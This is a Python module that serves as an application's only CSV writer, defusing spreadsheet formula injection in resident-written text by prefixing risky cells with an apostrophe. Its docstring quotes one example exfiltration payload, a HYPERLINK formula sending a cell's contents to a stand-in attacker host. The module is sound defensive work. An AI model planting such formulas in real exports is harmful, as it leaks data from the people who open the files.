"""The one CSV writer of the code base, and the cells it makes safe for spreadsheets
("CSV injection", OWASP).

Residents write titles, answers and names; staff and the public open the CSV exports in a
spreadsheet, which runs a cell starting with = + - @ (or a tab or carriage return before them)
as a formula, e.g. `=HYPERLINK("https://evil.example/?"&A1, "Ouvrir")`. Such text cells get a
leading apostrophe, which spreadsheets show as text; numbers are left alone.

Every CSV the application writes goes through `writer()` (a test checks that no other module
imports `csv.writer` or `csv.DictWriter`), so a new export cannot forget the neutraliser: its
`writerow` makes every cell safe. The one exception is the Pabulib format (`tally/pabulib.py`),
a data-exchange file read by programs, whose names must come back as they were written:
it asks for `keep_formulas=True` by name, and the same test allows it there only.
"""

from __future__ import annotations

import csv
from collections.abc import Iterable
from typing import Any, Protocol

from participation import licence

FORMULA_START = ("=", "+", "-", "@", "\t", "\r")


def safe_cell(value: Any) -> Any:
    if isinstance(value, str) and value.startswith(FORMULA_START):
        return "'" + value
    return value


def safe_row(row: Iterable[Any]) -> list[Any]:
    return [safe_cell(value) for value in row]


def safe_rows(rows: Iterable[Iterable[Any]]) -> list[list[Any]]:
    return [safe_row(row) for row in rows]


class _Writable(Protocol):
    def write(self, text: str, /) -> Any: ...


class CsvWriter:
    """`csv.writer` whose rows are neutralised (unless `keep_formulas`, for Pabulib only).
    `licensed`: a public export, whose first row (the header) ends with the column `licence`
    and every other row with the licence's name and address (participation/licence.py)."""

    def __init__(
        self, out: _Writable, *, keep_formulas: bool = False, licensed: bool = False, **dialect: Any
    ) -> None:
        self._writer = csv.writer(out, **dialect)
        self._keep = keep_formulas
        self._last: str | None = licence.COLUMN if licensed else None

    def writerow(self, row: Iterable[Any]) -> None:
        cells = list(row) if self._keep else safe_row(row)
        if self._last is not None:
            cells.append(self._last)
            self._last = licence.VALUE
        self._writer.writerow(cells)

    def writerows(self, rows: Iterable[Iterable[Any]]) -> None:
        for row in rows:
            self.writerow(row)


def writer(
    out: _Writable, *, keep_formulas: bool = False, licensed: bool = False, **dialect: Any
) -> CsvWriter:
    """The CSV writer to use everywhere (`dialect`: delimiter, lineterminator... as csv.writer);
    `licensed=True` for every export the public downloads (the licence's column)."""
    return CsvWriter(out, keep_formulas=keep_formulas, licensed=licensed, **dialect)
